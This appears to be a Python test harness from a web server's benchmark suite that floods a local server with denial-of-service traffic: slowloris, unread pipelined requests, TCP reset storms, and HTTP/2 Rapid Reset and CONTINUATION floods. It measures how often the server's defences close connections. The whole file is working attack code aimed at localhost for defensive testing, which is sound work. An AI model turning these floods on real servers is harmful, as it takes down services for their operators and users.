#!/usr/bin/python3
"""Hostile clients for bench/abuse.sh, one kind a run, for a fixed number of seconds (stdlib only).

  abuse.py slowloris   PORT SECONDS [N]  N connections (default 5000) sending one header byte every 10 s
  abuse.py noread      PORT SECONDS [N]  N connections (default 1000) pipelining GETs of PATH and never reading
  abuse.py reset       PORT SECONDS [N]  N tasks (default 8) of connect, request, TCP reset, at full speed
  abuse.py rapidreset  PORT SECONDS [N]  N h2c connections (default 4) of HEADERS + RST_STREAM at full speed
  abuse.py continuation PORT SECONDS [N] N h2c connections (default 4) of one HEADERS and endless CONTINUATION

Every connection the server closes is opened again, so the pressure lasts the whole run. Prints one line of
counts at the end: what was sent and how often the server closed a connection (its defence working).
"""
import asyncio
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STATS = {"connections": 0, "closed_by_server": 0, "requests": 0, "frames": 0, "connect_errors": 0}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_get(path, authority="127.0.0.1"):
    # :method GET (index 2), :scheme http (6), then :path and :authority as literals with an indexed name.
    p, a = path.encode(), authority.encode()
    return b"\x82\x86" + b"\x04" + bytes([len(p)]) + p + b"\x01" + bytes([len(a)]) + a


async def connect(port):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            STATS["connections"] += 1
            return reader, writer
        except OSError:
            STATS["connect_errors"] += 1
            await asyncio.sleep(0.05)


def reset(writer):
    sock = writer.get_extra_info("socket")
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    writer.transport.abort()


async def drain_until_closed(reader):
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass
    STATS["closed_by_server"] += 1


async def slowloris(port, deadline, gate):
    head = b"GET /hello HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4096
    while time.monotonic() < deadline:
        async with gate:
            reader, writer = await connect(port)
        closed = asyncio.ensure_future(drain_until_closed(reader))
        try:
            for i in range(len(head)):
                if closed.done() or time.monotonic() >= deadline:
                    break
                writer.write(head[i:i + 1])
                await asyncio.wait([closed], timeout=10)
        except OSError:
            pass
        if not closed.done():
            closed.cancel()
            reset(writer)
            return
        writer.close()


async def noread(port, deadline, gate, path):
    burst = f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 2000
    loop = asyncio.get_running_loop()
    while time.monotonic() < deadline:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        try:
            async with gate:
                await loop.sock_connect(sock, ("127.0.0.1", port))
            STATS["connections"] += 1
            await asyncio.wait_for(loop.sock_sendall(sock, burst), max(0.1, deadline - time.monotonic()))
            STATS["requests"] += 2000
            # Never read. TCP_INFO's state leaves ESTABLISHED (1) when the server closes (FIN or RST), even with
            # its unread responses still queued here.
            while time.monotonic() < deadline:
                await asyncio.sleep(0.5)
                if sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1:
                    STATS["closed_by_server"] += 1
                    break
        except (OSError, asyncio.TimeoutError):
            STATS["connect_errors"] += 1
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()


async def reset_storm(port, deadline):
    request = b"GET /hello HTTP/1.1\r\nHost: x\r\n\r\n"
    n = 0
    while time.monotonic() < deadline:
        reader, writer = await connect(port)
        writer.write(request)
        STATS["requests"] += 1
        n += 1
        if n % 2 == 0:
            try:
                await asyncio.wait_for(reader.read(4096), 2)
            except (OSError, asyncio.TimeoutError):
                pass
        reset(writer)


async def h2_flood(port, deadline, kind):
    while time.monotonic() < deadline:
        reader, writer = await connect(port)
        closed = asyncio.ensure_future(drain_until_closed(reader))
        writer.write(PREFACE + frame(4, 0, 0))
        stream = 1
        try:
            if kind == "rapidreset":
                block = hpack_get("/hello")
                while not closed.done() and time.monotonic() < deadline:
                    batch = bytearray()
                    for _ in range(100):
                        batch += frame(1, 0x5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
                        stream += 2
                    writer.write(bytes(batch))
                    STATS["frames"] += 200
                    await writer.drain()
                    await asyncio.sleep(0)  # let the reader see a GOAWAY and EOF
                    if stream > 2**31 - 300:
                        break
            else:
                writer.write(frame(1, 0x1, 1, hpack_get("/hello")))
                filler = b"\x40\x05x-pad\x7f\x81\x7f" + b"a" * 255  # literal x-pad: 255 bytes, repeated
                while not closed.done() and time.monotonic() < deadline:
                    batch = bytearray()
                    for i in range(64):
                        batch += frame(9, 0, 1, filler if i % 2 else b"")
                    writer.write(bytes(batch))
                    STATS["frames"] += 64
                    await writer.drain()
                    await asyncio.sleep(0)
        except OSError:
            pass
        if not closed.done():
            closed.cancel()
        reset(writer)


async def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    defaults = {"slowloris": 5000, "noread": 1000, "reset": 8, "rapidreset": 4, "continuation": 4}
    n = int(sys.argv[4]) if len(sys.argv) > 4 else defaults[kind]
    path = sys.argv[5] if len(sys.argv) > 5 else "/static16k"
    deadline = time.monotonic() + seconds
    gate = asyncio.Semaphore(200)  # connects in flight: stay under the listen backlog
    if kind == "slowloris":
        tasks = [slowloris(port, deadline, gate) for _ in range(n)]
    elif kind == "noread":
        tasks = [noread(port, deadline, gate, path) for _ in range(n)]
    elif kind == "reset":
        tasks = [reset_storm(port, deadline) for _ in range(n)]
    elif kind in ("rapidreset", "continuation"):
        tasks = [h2_flood(port, deadline, kind) for _ in range(n)]
    else:
        raise SystemExit(f"unknown kind {kind}")
    await asyncio.wait([asyncio.ensure_future(t) for t in tasks], timeout=seconds + 15)
    print(kind, " ".join(f"{k}={v}" for k, v in STATS.items()), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
